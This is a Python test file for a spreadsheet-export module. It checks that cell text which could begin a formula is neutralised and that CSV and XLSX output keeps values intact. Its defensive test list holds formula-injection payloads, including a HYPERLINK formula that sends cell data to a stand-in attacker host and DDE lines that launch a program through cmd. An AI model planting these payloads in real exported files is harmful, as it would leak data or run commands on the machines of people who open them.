"""Files for spreadsheets: nothing in them is ever a formula, and everything arrives as it was."""

import csv
import io
from collections.abc import AsyncIterator, Sequence
from datetime import datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from router.web.sheets import BYTE_ORDER_MARK, LONGEST_CELL, Cell, csv_file, neutral, xlsx_file

pytestmark = pytest.mark.anyio

HOSTILE = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    '"=1+1"',
    "|calc",
    "%0A=1",
]
HARMLESS = ["", "林女士", "Ms Li", "a=b", "wm-lin", "1 + 1", "😀", "价格 / 衬衫"]


async def batches(*rows: Sequence[Cell]) -> AsyncIterator[Sequence[Sequence[Cell]]]:
    for row in rows:
        yield [row]


async def whole(pieces: AsyncIterator[bytes]) -> bytes:
    return b"".join([piece async for piece in pieces])


def read_csv(content: bytes) -> list[list[str]]:
    text = content.decode()
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_begin_a_formula_is_marked_as_text(text: str) -> None:
    assert neutral(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


@given(st.text())
def test_whatever_somebody_calls_themselves_a_cell_never_begins_like_a_formula(text: str) -> None:
    found = neutral(text)

    assert not found.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert not found.startswith(("\t", "\r", "\n"))
    assert len(found) <= LONGEST_CELL


async def test_a_csv_file_says_that_it_is_utf_8_and_keeps_line_breaks_and_quotes() -> None:
    rows: list[Sequence[Cell]] = [
        ("林", 3, None, datetime(2026, 11, 21, 14, 5, 9)),  # noqa: DTZ001 -- a cell has no zone
        ('a "b",\nc', -7, "=1+1", None),
    ]

    content = await whole(csv_file(["Name", "Adds", "Note", "Held"], batches(*rows)))

    assert read_csv(content) == [
        ["Name", "Adds", "Note", "Held"],
        ["林", "3", "", "2026-11-21 14:05:09"],
        ['a "b",\nc', "-7", "'=1+1", ""],
    ]


async def test_an_xlsx_file_holds_text_numbers_and_dates_and_no_formula() -> None:
    moment = datetime(2026, 11, 21, 14, 5, 9)  # noqa: DTZ001 -- a cell has no zone
    rows: list[Sequence[Cell]] = [
        ("林", 3, moment),
        *((text, 0, None) for text in HOSTILE),
        ("\x00\x1b\ud800", 1, None),
    ]

    content = await whole(xlsx_file("Customers", ["Name", "Adds", "Held"], batches(*rows)))

    sheet = load_workbook(io.BytesIO(content))["Customers"]
    cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert cells[:2] == [["Name", "Adds", "Held"], ["林", 3, moment]]
    assert [row[0].replace("\r", "\n").replace("_x000D_", "\n") for row in cells[2:-1]] == [
        neutral(text).replace("\r", "\n") for text in HOSTILE
    ]
    assert cells[-1][0] == "\ufffd\ufffd\ufffd"
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s", "n", "d"}


async def test_a_download_that_is_given_up_leaves_no_temporary_file(
    tmp_path: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    fault = RuntimeError("the database went away")

    async def broken() -> AsyncIterator[Sequence[Sequence[Cell]]]:
        yield [("one",)]
        raise fault

    with pytest.raises(RuntimeError, match="went away"):
        await whole(xlsx_file("Numbers", ["Name"], broken()))

    from pathlib import Path

    assert list(Path(str(tmp_path)).iterdir()) == []
